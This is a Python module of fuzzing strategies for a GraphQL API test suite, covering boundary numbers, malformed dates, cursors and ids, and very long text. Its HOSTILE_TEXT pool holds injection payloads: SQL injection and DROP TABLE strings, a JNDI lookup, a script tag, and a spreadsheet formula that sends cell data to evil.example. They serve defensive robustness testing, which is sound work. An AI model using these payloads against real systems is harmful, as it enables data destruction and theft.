"""Argument values for the GraphQL fuzzer (tests/api/test_fuzz.py): plausible, boundary and
hostile, one strategy per scalar, each drawing from three pools.

hypothesis-graphql fills every argument of a scalar type from one strategy, whatever the
argument means, so each strategy here mixes:
- values that reach deep: real agency, field and province codes, tracking codes, petition
  secrets, global ids, cursors and versions read from the live server (`Seeds`), so a
  mutation sometimes names a real petition at its real version;
- boundaries: page sizes 0/1/100/101, 32-bit limits, the years 2000 and 2199, offsets of
  +-14:00, leap days, the last second of a day;
- hostility: NUL and control characters, bidi overrides, emoji and NFD text, SQL and LIKE
  metacharacters, strings of 200 to 200,000 characters, base64 that is not canonical or
  decodes to the wrong shape (a cursor of `["SUBMITTED_AT:DESC", null, 5]`), far dates.

The first branch of each `one_of` is the plausible one: Hypothesis shrinks towards it.
"""

from __future__ import annotations

import base64
import unicodedata
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta, timezone
from typing import TypeVar

import graphql
import orjson
from hypothesis import strategies as st
from hypothesis_graphql import nodes

T = TypeVar("T")

INT32_MAX = 2**31 - 1
INT32_MIN = -(2**31)

BOUNDARY_INTS = (0, 1, -1, 2, 5, 19, 20, 21, 50, 51, 99, 100, 101, 1000)
"""Page sizes, versions, scores and quarters at and around their limits."""
HUGE_INTS = (INT32_MAX, INT32_MIN, INT32_MAX - 1, 2**31, -(2**31) - 1, 2**53, -(10**30))
"""The 32-bit edges and beyond: beyond them GraphQL's Int refuses the literal."""
YEARS = (1999, 2000, 2001, 2025, 2026, 2027, 2199, 2200, 9999, 1, 0)


def _b64(raw: bytes, *, padded: bool = False) -> str:
    text = base64.urlsafe_b64encode(raw).decode()
    return text if padded else text.rstrip("=")


def _json_b64(value: object) -> str:
    return _b64(orjson.dumps(value))


FAR_TIMES = (
    "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00-14:00",
    "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:59:59.999999+14:00",
    "1999-12-31T23:59:59+07:00",
    "2000-01-01T00:00:00+07:00",
    "1999-12-31T17:00:00Z",
    "2199-12-31T23:59:59+07:00",
    "2199-12-31T23:59:59-14:00",
    "2200-01-01T00:00:00+14:00",
    "1970-01-01T00:00:00Z",
)
"""The supported window is 2000-2199; these sit on, inside and far outside its edges,
with the offsets that push a UTC conversion past year 1 or year 9999."""

ODD_TIMES = (
    "2026-03-02T09:30:00",
    "2026-03-02",
    "2026-02-29T00:00:00+07:00",
    "2024-02-29T23:59:59+07:00",
    "2026-13-01T00:00:00Z",
    "2026-01-01T24:00:00Z",
    "2026-06-30T23:59:60Z",
    "2026-01-01T00:00:00+15:00",
    "2026-01-01T00:00:00+23:59",
    "2026-01-01T00:00:00-00:00",
    "2026-01-01T00:00:00.123456789+07:00",
    "2026-01-01T00:00:00,5+07:00",
    "2026-W10-1",
    "20260101T000000Z",
    "２０２６-01-01T00:00:00+07:00",
    "2026-01-01T00:00:00+07:00\x00",
    " 2026-01-01T00:00:00+07:00",
    "now",
    "",
    "-2026-01-01T00:00:00Z",
    "+12026-01-01T00:00:00Z",
)

FAR_DATES = (
    "2000-01-01",
    "1999-12-31",
    "2199-12-31",
    "2200-01-01",
    "0001-01-01",
    "9999-12-31",
    "1970-01-01",
)
ODD_DATES = (
    "2026-02-29",
    "2024-02-29",
    "2026-00-10",
    "2026-01-32",
    "2026-1-1",
    "20260101",
    "2026-01-01T00:00:00+07:00",
    "2026-W01",
    "２０２６-01-01",
    "",
    "yesterday",
)

HOSTILE_TEXT = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\t\r\n",
    "\x01\x02\x1b[31m\x7f",
    "\u202etxt.exe",
    "\u200b\u200d\ufeff",
    "🇻🇳👨‍👩‍👧‍👦🔥",
    unicodedata.normalize("NFD", "Bộ Tài chính Thủ tục đất đai"),
    "a" + "\u0301" * 500,
    "%",
    "_",
    "\\",
    "%_\\%",
    "' OR 1=1 --",
    '"; DROP TABLE petitions; --',
    "${jndi:ldap://127.0.0.1/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bam vao day")',
    "null",
    "0",
    "-1",
    "1e309",
    "NaN",
    "[]",
    "{}",
    "PAKN-0000-000000",
    "PAKN-2026-999999999999999999999",
    "pakn-2026-000001",
    "\ud7ff\ue000\uffff",
)

LONG_TEXT = (
    "a" * 201,
    "Đ" * 1001,
    "x" * 5001,
    "tài chính " * 2000,
    "a" * 200_000,
    "🔥" * 2000,
)
"""Just over the short limits (200 characters), well over the long ones, and over the
body limit (256 KiB: answered 413)."""

CURSOR_SHAPES: tuple[object, ...] = (
    ["SUBMITTED_AT:DESC", None, 5],
    ["SUBMITTED_AT:DESC", True, 5],
    ["SUBMITTED_AT:DESC", 5, 5],
    ["SUBMITTED_AT:DESC", "not a time", 5],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00", 5],
    ["SUBMITTED_AT:DESC", "0001-01-01T00:00:00+14:00", 5],
    ["SUBMITTED_AT:DESC", "9999-12-31T23:59:59-14:00", 5],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", 2**40],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", -1],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", 1.5],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", "5"],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", True],
    ["ANSWERED_AT:DESC", None, True],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00"],
    ["SUBMITTED_AT:DESC", "2026-01-01T00:00:00+07:00", 5, 6],
    ["DEADLINE_AT:ASC", None, 1],
    ["DEADLINE_AT:ASC", "2026-01-01T00:00:00+07:00", 1],
    ["ANSWERED_AT:DESC", None, INT32_MAX],
    ["ANSWERED_AT:ASC", "2026-01-01T00:00:00+07:00", 0],
    [None, None, None],
    [[], {}, []],
    {"order": "SUBMITTED_AT:DESC"},
    "SUBMITTED_AT:DESC",
    5,
    None,
    [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],
)
"""Cursor payloads of the wrong shape or type: the review's `[..., null, 5]` and kin."""


def _malformed_tokens() -> tuple[str, ...]:
    made = [_json_b64(shape) for shape in CURSOR_SHAPES]
    for text in ("agency:-1", "agency:99999999999", "agency:1e5", "agency: 1", "agency:",
                 "event:-1", "event:2147483648", "event:0x10", "event:١٢", "event:1.0",
                 "Petition:0", "Petition:-1", "Petition:2147483648", "Petition:1.5",
                 "Petition:", "Petition:٣", "Agency:99999", "Foo:1", ":1", "Petition:1:2",
                 "PetitionEvent:1\x00", "Answer:00001"):  # fmt: skip
        made.append(_b64(text.encode()))
    made += [
        _b64(b"\xff\xfe\xfd"),
        _b64(b"Petition:1", padded=True),
        "UGV0aXRpb246MQ==",  # standard base64, padded
        "UGV0aXRpb246MQ",
        "UGV0aXRpb246M",  # truncated
        "!!!!",
        "====",
        "a",
        "....",
        "UGV0a XRpb246MQ",
        _b64(b"x" * 3000),
    ]
    return tuple(made)


MALFORMED_TOKENS = _malformed_tokens()


@dataclass
class Seeds:
    """Real values read from the server under test, so that arguments sometimes name
    something that exists."""

    codes: list[str] = field(default_factory=list)
    """Agency, field and province codes."""
    tracking_codes: list[str] = field(default_factory=list)
    secrets: list[str] = field(default_factory=list)
    ids: list[str] = field(default_factory=list)
    """Global ids of agencies, petitions, answers and events."""
    cursors: list[str] = field(default_factory=list)
    versions: list[int] = field(default_factory=list)
    agency_codes: list[str] = field(default_factory=list)
    field_codes: list[str] = field(default_factory=list)
    petitions: list[str] = field(default_factory=list)
    """Global ids of open petitions, for an action aimed at one (`FuzzTarget.aimed`)."""
    petitioners: list[tuple[str, str]] = field(default_factory=list)
    """Their tracking codes and their petitioners' secrets."""

    def texts(self) -> list[str]:
        return [*self.codes, *self.tracking_codes, *self.secrets, *self.ids, *self.cursors]


def _sampled(values: list[str] | tuple[str, ...]) -> st.SearchStrategy[str]:
    return st.sampled_from(list(values)) if values else st.nothing()


def _plain_text() -> st.SearchStrategy[str]:
    return st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40)


TAMPERING = ("\x00", " ", "\t", "\u0301", "%", "'", "\n", "0" * 40, "\u200b", "-")


def _tampered(values: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """A real value with a character added before or after it: ` BTC`, a tracking code
    and U+0000, an id and a combining accent."""
    return st.tuples(values, st.sampled_from(TAMPERING), st.booleans()).map(
        lambda parts: parts[1] + parts[0] if parts[2] else parts[0] + parts[1]
    )


def strings(seeds: Seeds) -> st.SearchStrategy[str]:
    plausible = _sampled(seeds.texts())
    return st.one_of(
        plausible,
        _tampered(plausible),
        _sampled(HOSTILE_TEXT),
        _plain_text(),
        _sampled(MALFORMED_TOKENS),
        _sampled(FAR_TIMES + ODD_TIMES + FAR_DATES + ODD_DATES),
        _sampled(LONG_TEXT),
        st.text(min_size=1, max_size=12).map(lambda word: word * 40),
    )


def ids(seeds: Seeds) -> st.SearchStrategy[str]:
    return st.one_of(
        _sampled(seeds.ids),
        _tampered(_sampled(seeds.ids)),
        _sampled(MALFORMED_TOKENS),
        _sampled(HOSTILE_TEXT),
        _sampled(seeds.cursors),
        st.integers(INT32_MIN, 2**40).map(str),
        _sampled(LONG_TEXT),
    )


def mostly(
    usual: st.SearchStrategy[T], rare: st.SearchStrategy[T], odds: int = 10
) -> st.SearchStrategy[T]:
    """`usual`, and one time in `odds` `rare` (a plain `one_of` would draw each half the time)."""
    return st.integers(0, odds - 1).flatmap(lambda roll: rare if roll == 0 else usual)


def integers(seeds: Seeds) -> st.SearchStrategy[int]:
    usual = st.one_of(
        st.sampled_from(BOUNDARY_INTS),
        st.sampled_from(seeds.versions) if seeds.versions else st.nothing(),
        st.integers(-3, 120),
        st.sampled_from(YEARS),
    )
    return mostly(usual, st.sampled_from(HUGE_INTS), odds=40)


_OFFSETS = st.integers(-14 * 4, 14 * 4).map(
    lambda quarters: timezone(timedelta(minutes=15 * quarters))
)
"""Every quarter-hour UTC offset from -14:00 to +14:00."""


def _datetimes() -> st.SearchStrategy[str]:
    near = st.datetimes(datetime(1995, 1, 1), datetime(2205, 1, 1), timezones=_OFFSETS)
    anywhere = st.datetimes(timezones=st.one_of(_OFFSETS, st.just(UTC), st.none()))
    return st.one_of(near, anywhere).map(datetime.isoformat)


def datetimes() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FAR_TIMES),
        _datetimes(),
        st.sampled_from(ODD_TIMES),
        _sampled(HOSTILE_TEXT),
    )


def dates() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FAR_DATES),
        st.dates(date(1995, 1, 1), date(2205, 1, 1)).map(date.isoformat),
        st.dates().map(date.isoformat),
        st.sampled_from(ODD_DATES),
        _sampled(HOSTILE_TEXT),
    )


def custom_scalars(seeds: Seeds) -> dict[str, st.SearchStrategy[graphql.ValueNode]]:
    """hypothesis-graphql's `custom_scalars`: the built-in String, ID and Int too.

    Each gives literals of its own kind (an ID may also be an Int literal, as GraphQL
    allows): one literal of a wrong kind fails the whole document's validation, and a
    document holds dozens, so wrong kinds are left to the negative mode's documents."""
    return {
        "String": strings(seeds).map(nodes.String),
        "ID": mostly(ids(seeds).map(nodes.String), integers(seeds).map(nodes.Int), odds=5),
        "Int": integers(seeds).map(nodes.Int),
        "DateTime": datetimes().map(nodes.String),
        "Date": dates().map(nodes.String),
    }


def hostile_json() -> st.SearchStrategy[object]:
    """A JSON value of any shape, for a variable or a body: scalars, long text, deep
    nesting, big numbers."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**63), 2**63),
        st.floats(allow_nan=False, allow_infinity=False),
        _sampled(HOSTILE_TEXT),
        _sampled(MALFORMED_TOKENS),
        st.text(max_size=20),
    )
    nested = st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
        ),
        max_leaves=12,
    )
    deep = st.integers(1, 3000).map(_deep)
    return st.one_of(nested, deep, _sampled(LONG_TEXT))


def _deep(depth: int) -> orjson.Fragment:
    """`depth` nested arrays and objects, as JSON text (orjson would not nest so deep)."""
    opening = "".join("[" if level % 2 else '{"a":' for level in range(depth))
    closing = "".join("]" if level % 2 else "}" for level in reversed(range(depth)))
    return orjson.Fragment(f"{opening}1{closing}".encode())
